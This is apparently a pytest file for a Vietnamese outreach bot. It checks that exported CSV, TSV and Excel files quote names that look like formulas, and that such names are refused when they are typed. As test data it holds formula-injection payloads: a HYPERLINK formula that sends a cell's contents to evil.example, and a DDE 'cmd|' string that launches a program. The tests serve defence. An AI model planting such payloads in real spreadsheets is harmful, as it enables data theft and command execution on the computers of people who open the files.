"""Exports open safely (issue 23, part 6): a name that looks like a spreadsheet formula is
written as text in every CSV and TSV, stays a string in the workbooks, and can no longer be
typed."""

from __future__ import annotations

import asyncio
import csv
import io
import re
import sqlite3
from pathlib import Path

import openpyxl
import pytest

from bot.domain.campaigns import check_name
from bot.domain.cells import SafeCsvWriter, cell, starts_like_formula, tsv_line
from bot.domain.invites import clean_display_name, display_name_problem
from bot.domain.refusal import Refusal
from bot.domain.units_csv import UnitRow, parse_units_csv
from bot.services.scoping import ADMIN
from bot.standin.api import StandinBotApi
from bot.standin.users import SimUser
from bot.storage.db import open_database
from bot.storage.units import UnitRepository
from bot.texts.templates import Texts
from tests.cli import run_bot_command
from tests.conftest import RunningBot
from tests.outreach_helpers import invite_code, join, query_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"Bấm xem")'
PARENT = "+Phường Mẫu"  # the team's unit: its name starts with "+"
CAMPAIGN = "@SUM(A1:A9)"
TITLE = "-2+3+cmd|' /C calc'!A0"
STARTS = ("=", "+", "-", "@", "\t", "\r")


# ---- the one helper ---------------------------------------------------------------------


def test_text_that_starts_like_a_formula_gets_a_quote_and_numbers_stay_numbers() -> None:
    for start in STARTS:
        assert starts_like_formula(start + "x")
        assert cell(start + "x") == "'" + start + "x"
    for safe in ("", "Đội-1", "Phường Ba Đình", "'=already quoted", " =x", "1+1"):
        assert cell(safe) == safe
    assert cell(-5) == -5 and cell(2.5) == 2.5 and cell(0) == 0 and cell(None) is None
    assert tsv_line(-5, "-5", 7) == "-5\t'-5\t7", "a number is written as a number, text as text"
    # A tab or line break inside a cell would start a new cell beginning with "=".
    assert tsv_line("a\t=1+1", "b\n@x") == "a =1+1\tb @x"
    out = io.StringIO()
    SafeCsvWriter(out).writerow([EVIL, 3, -1, "ok"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'" + EVIL, "3", "-1", "ok"]


# ---- every CSV and TSV, for names stored before the refusal existed ----------------------


async def _store_old_names(db_path: Path, renames: dict[str, str]) -> None:
    """Rename units straight through storage, as names from before this change would be."""
    db = await open_database(db_path)
    try:
        repo = UnitRepository(db)
        rows = []
        for code, name in renames.items():
            unit = await repo.by_code(code)
            assert unit is not None
            parent = await repo.get(unit.parent_id) if unit.parent_id else None
            rows.append(UnitRow(0, code, name, unit.kind, parent.code if parent else ""))
        assert not (await repo.import_rows(rows)).problems
    finally:
        await db.close()


@pytest.fixture(scope="module")
def old_names(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str, str]:
    """Demo data in which a team with records is named EVIL, its unit PARENT, a campaign
    CAMPAIGN and an activity TITLE; returns the database, the team's and its unit's codes."""
    db = tmp_path_factory.mktemp("formula") / "o.db"
    made = run_bot_command("demo-data", "--assists", "400", "--seed", "5", DB_PATH=str(db))
    assert made.returncode == 0, made.stderr
    with sqlite3.connect(db) as conn:
        team, parent = conn.execute(
            "SELECT u.code, p.code FROM assists a JOIN units u ON u.id = a.unit_id "
            "JOIN units p ON p.id = u.parent_id WHERE u.kind = 'team' "
            "GROUP BY u.id ORDER BY count(*) DESC, u.code LIMIT 1"
        ).fetchone()
    asyncio.run(_store_old_names(db, {team: EVIL, parent: PARENT}))
    with sqlite3.connect(db) as conn:  # no storage call renames these: written as old rows
        first = "WHERE id = (SELECT min(id) FROM {})"
        conn.execute("UPDATE campaigns SET name = ? " + first.format("campaigns"), (CAMPAIGN,))
        conn.execute("UPDATE activities SET title = ? " + first.format("activities"), (TITLE,))
    return db, team, parent


def _assert_opens_safely(rows: list[list[str]]) -> None:
    assert rows
    for row in rows:
        for value in row:
            if re.fullmatch(r'="[\d\s.,/:%()-]*"', value):
                continue  # the files' own text formula for a code like 00004 (issue 26)
            assert not value.startswith(STARTS), f"{value!r} would run as a formula: {row}"


def _tsv(result) -> list[list[str]]:
    assert result.returncode == 0, result.stderr
    return [line.split("\t") for line in result.stdout.splitlines()]


def test_the_export_csv_writes_the_team_as_text_and_counts_as_numbers(
    tmp_path: Path, old_names: tuple[Path, str, str]
) -> None:
    db, team, _ = old_names
    out = tmp_path / "e.csv"
    result = run_bot_command("export", "--format", "csv", "--out", str(out), DB_PATH=str(db))
    assert result.returncode == 0, result.stderr
    rows = list(csv.reader(out.open(encoding="utf-16", newline=""), delimiter="\t"))
    _assert_opens_safely(rows)
    header, records = rows[0], rows[1:]
    mine = [r for r in records if r[header.index("Mã đơn vị")] == team]
    assert mine and all(r[header.index("Đơn vị")] == "'" + EVIL for r in mine)
    people = header.index("Số người")
    assert all(re.fullmatch(r"\d+", r[people]) for r in records), "numbers stay numbers"


def test_the_report_csv_opens_safely(old_names: tuple[Path, str, str]) -> None:
    db, team, parent = old_names
    result = run_bot_command("report", "--unit", parent, "--format", "csv", DB_PATH=str(db))
    assert result.returncode == 0, result.stderr
    rows = list(csv.reader(io.StringIO(result.stdout)))
    _assert_opens_safely(rows)
    assert any(r[2] == team and EVIL in r[0] for r in rows), "the team's line is there"
    [people] = [r[3] for r in rows if r[1] == "people"]
    assert re.fullmatch(r"\d+", people), "the people figure is a number"


def test_units_activities_campaigns_and_groups_lists_open_safely(
    old_names: tuple[Path, str, str],
) -> None:
    db, team, parent = old_names
    units = _tsv(run_bot_command("units", "list", "--under", parent, DB_PATH=str(db)))
    _assert_opens_safely(units)
    assert [r[2] for r in units if r[0] == parent] == ["'" + PARENT]
    assert [r for r in units if r[0] == team] == [[team, "team", "'" + EVIL, parent]]

    activities = _tsv(run_bot_command("activities", "list", DB_PATH=str(db)))
    _assert_opens_safely(activities)
    [line] = [r for r in activities if r[5] == "'" + TITLE]
    assert all(re.fullmatch(r"\d+", value) for value in (line[0], *line[7:10])), line

    campaigns = _tsv(run_bot_command("campaigns", "list", DB_PATH=str(db)))
    _assert_opens_safely(campaigns)
    assert any(r[3] == "'" + CAMPAIGN for r in campaigns)


def test_the_workbooks_keep_such_names_as_strings(
    tmp_path: Path, old_names: tuple[Path, str, str]
) -> None:
    db, _, _ = old_names
    out = tmp_path / "r.xlsx"
    result = run_bot_command("report", "--format", "xlsx", "--out", str(out), DB_PATH=str(db))
    assert result.returncode == 0, result.stderr
    book = openpyxl.load_workbook(out)  # not data_only: a formula would read as type "f"
    found: dict[str, str] = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{sheet.title}!{c.coordinate} is a formula: {c.value}"
                if c.value in (EVIL, TITLE, PARENT):
                    found[str(c.value)] = c.data_type
    assert found == {EVIL: "s", TITLE: "s", PARENT: "s"}, "written as they are, as strings"


# ---- typing such a name is refused ---------------------------------------------------------


def test_names_starting_like_a_formula_are_refused_by_the_rules() -> None:
    for name in (EVIL, "- Đội 1", "+84 đội", "@all", "  =1+1"):
        with pytest.raises(Refusal) as refused:
            check_name(name)
        assert refused.value.reason == "name_formula"
        assert clean_display_name(name) is None and display_name_problem(name) == "formula"
    for name in ("Đội-1", "Đội hình 3+", "Lan – Chi đoàn 3", "1 + 1"):
        assert check_name(name) == name and clean_display_name(name) == name
    assert display_name_problem("x" * 41) == "length"
    assert display_name_problem("=" + "x" * 60) == "formula", "said first: shorter is no help"
    rows, problems = parse_units_csv(
        "code,name,kind,parent_code\nX1,=1+1,branch,01\nX2,- Đội 1,team,01\nX3,Đội-1,team,01\n"
    )
    assert [r.code for r in rows] == ["X1", "X2", "X3"]
    assert problems == [
        "line 2: unit X1 has a name starting with '='; a spreadsheet would run it as a formula "
        "(names may not start with = + - or @)",
        "line 3: unit X2 has a name starting with '-'; a spreadsheet would run it as a formula "
        "(names may not start with = + - or @)",
    ]


def test_the_refusals_are_sentences_in_each_language() -> None:
    texts = Texts(Path(__file__).resolve().parents[1] / "templates")
    for lang, words in (("vi", "không được bắt đầu bằng"), ("en", "may not start with")):
        for template, reason in (
            ("campaign_error", "name_formula"),
            ("activity_title_invalid", "name_formula"),
            ("name_invalid", "formula"),
        ):
            text = texts.render(lang, template, reason=reason, limit=40)
            assert words in text, (lang, template, text)
            assert "name_formula" not in text and f"({reason})" not in text, "no internal code"


def test_the_command_line_refuses_such_names_and_changes_nothing(tmp_path: Path) -> None:
    db = tmp_path / "o.db"
    env = {"DB_PATH": str(db), "BOT_USERNAME": "outreach_test_bot"}
    for args in (
        ("campaigns", "add", "--code", "X", "--name", EVIL, "--from", "01/11/2026",
         "--to", "30/11/2026"),
        ("activities", "add", "--unit", "01", "--kind", "class", "--title", "- Lớp 1",
         "--date", "02/11/2026"),
        ("groups", "add", "G1", "--name", "@cụm", "--units", "48,51"),
        ("teams", "add", "--unit", "01", "--name", "+Đội 1"),
    ):  # fmt: skip
        result = run_bot_command(*args, env=env)
        assert result.returncode == 1 and "may not start with = + - or @" in result.stderr, args
    source = tmp_path / "units.csv"
    source.write_text("code,name,kind,parent_code\nX1,=1+1,branch,01\n", encoding="utf-8")
    result = run_bot_command("units", "import", str(source), DB_PATH=str(db))
    assert result.returncode == 1 and "a spreadsheet would run it as a formula" in result.stdout
    with sqlite3.connect(db) as conn:
        for table in ("campaigns", "activities", "unit_groups"):
            assert conn.execute(f"SELECT count(*) FROM {table}").fetchone() == (0,), table
        assert conn.execute(
            "SELECT count(*) FROM units WHERE code = 'X1' OR kind = 'team'"
        ).fetchone() == (0,)


async def test_the_service_refuses_a_formula_named_team(obot: RunningBot) -> None:
    clusters = obot.services.reach.clusters
    with pytest.raises(Refusal) as refused:
        await clusters.add_team(ADMIN, "00004", EVIL)
    assert refused.value.reason == "name_formula"
    assert query_db(obot, "SELECT count(*) FROM units WHERE kind = 'team'") == [(0,)]


async def test_typing_a_formula_named_team_or_display_name_in_chat_is_refused(
    api: StandinBotApi, obot: RunningBot, admin: SimUser
) -> None:
    coordinator = await join(api, admin, "00004", "Thảo", role="coordinator")
    for name in (EVIL, "- Đội 1"):
        await coordinator.send(f"/team {name}")
        text = coordinator.last()["text"]
        assert "Tên không được bắt đầu bằng dấu =, +, - hoặc @" in text, text
        assert "name_formula" not in text
    assert query_db(obot, "SELECT count(*) FROM units WHERE kind = 'team'") == [(0,)]
    await coordinator.send("/team Đội-1")
    assert "00004-DH1" in coordinator.last()["text"], "a dash inside a name is fine"

    await admin.send("/invite 00004")
    code = invite_code(admin.bot_messages()[-2])
    person = SimUser(api, first_name="Lan")
    await person.send(f"/start join_{code}")
    await person.send("@admin")
    assert "Tên không được bắt đầu bằng dấu" in person.last()["text"]
    assert query_db(obot, "SELECT count(*) FROM members WHERE display_name = '@admin'") == [(0,)]
    await person.send("Lan")  # the question is still open: the next name is taken
    assert "🎉" in person.last()["text"]
    await person.send("/name =1+1")
    assert "Tên không được bắt đầu bằng dấu" in person.last()["text"]
    assert query_db(obot, "SELECT display_name FROM members WHERE display_name LIKE '%1+1'") == []
